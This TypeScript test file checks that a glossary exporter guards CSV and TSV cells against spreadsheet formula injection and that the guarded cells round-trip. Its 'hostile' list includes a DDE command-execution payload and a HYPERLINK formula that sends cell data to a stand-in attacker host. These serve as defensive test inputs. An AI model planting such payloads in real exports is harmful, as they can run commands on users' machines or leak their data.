import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readAnkiText } from "@/core/exchange/anki-text";
import { readDelimited } from "@/core/exchange/delimited";
import { guardCell, restoreCell } from "@/core/exchange/formula";
import { type TermRow, writeTermTable } from "@/core/exchange/term-table";

const row: TermRow = {
  zh: "基层",
  pinyin: "jīcéng",
  preferred: "primary level",
  others: ["primary-level", "grassroots"],
  avoid: [
    { en: "community", why: "kept for 社区" },
    { en: "base", why: "" },
  ],
  gloss: "Lowest tier of organization: subdistrict, village",
  level: "Central",
  link: "https://example.org/en/glossary/jiceng/",
};

/** What spreadsheets run, from OWASP's page on CSV injection and reports against Excel, LibreOffice and Sheets. */
const hostile = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "'=1+1",
  "''@x",
  " '-1",
  "\u3000＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '-";=1',
];
const harmless = [
  "",
  "基层",
  "1+10+N",
  "primary-level",
  "'quoted'",
  "’tis",
  "a=b",
  "https://example.org/?a=-1",
  "#tag",
  'say "yes"',
  "two\nlines",
  "5%",
];

describe("a cell that a spreadsheet would run", () => {
  it.each(hostile)("is guarded and restored: %j", (text) => {
    expect(guardCell(text)).toBe(`'${text}`);
    expect(restoreCell(guardCell(text))).toBe(text);
  });
  it.each(harmless)("leaves others alone: %j", (text) => {
    expect(guardCell(text)).toBe(text);
    expect(restoreCell(text)).toBe(text);
  });
  it("restores whatever was guarded, and what is guarded begins with nothing that runs", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "'", " ", "\t", "\n", "\r", "\u3000", "＝", "a", "基", ",", '"') }),
        (text) => {
          expect(restoreCell(guardCell(text))).toBe(text);
          expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        },
      ),
    );
  });
});

describe.each([
  ["csv", ","],
  ["tsv", "\t"],
] as const)("terms as %s", (format, separator) => {
  it("has a byte-order mark, CRLF, a line of names and a row a term", () => {
    const text = writeTermTable([row], format);
    expect(text.startsWith("\uFEFFChinese")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(readDelimited(text.slice(1), separator)).toEqual([
      ["Chinese", "Pinyin", "English", "Other English", "Avoid", "Gloss", "Level", "Link"],
      [
        "基层",
        "jīcéng",
        "primary level",
        "primary-level; grassroots",
        "community (kept for 社区); base",
        "Lowest tier of organization: subdistrict, village",
        "Central",
        "https://example.org/en/glossary/jiceng/",
      ],
    ]);
  });
  it("keeps separators, quotes and line breaks in their cells, and lets nothing run", () => {
    for (const text of [...hostile, ...harmless, `a${separator}b`]) {
      const [, cells = []] = readDelimited(
        writeTermTable([{ ...row, gloss: text, preferred: text, others: [text], avoid: [{ en: text, why: "" }] }], format).slice(1),
        separator,
      );
      expect(cells).toHaveLength(8);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      expect(restoreCell(cells[5] ?? "")).toBe(text);
    }
  });
  it("comes back by our own import as it was", () => {
    const text = writeTermTable([row, { ...row, zh: "村", pinyin: "cūn", preferred: "-village", gloss: "a place" }], format);
    const { notes } = readAnkiText(text, 1, `terms.${format}`);
    expect(notes.map(({ zh, pinyin, en }) => ({ zh, pinyin, en }))).toEqual([
      { zh: "基层", pinyin: "jīcéng", en: "primary level" },
      { zh: "村", pinyin: "cūn", en: "-village" },
    ]);
  });
});
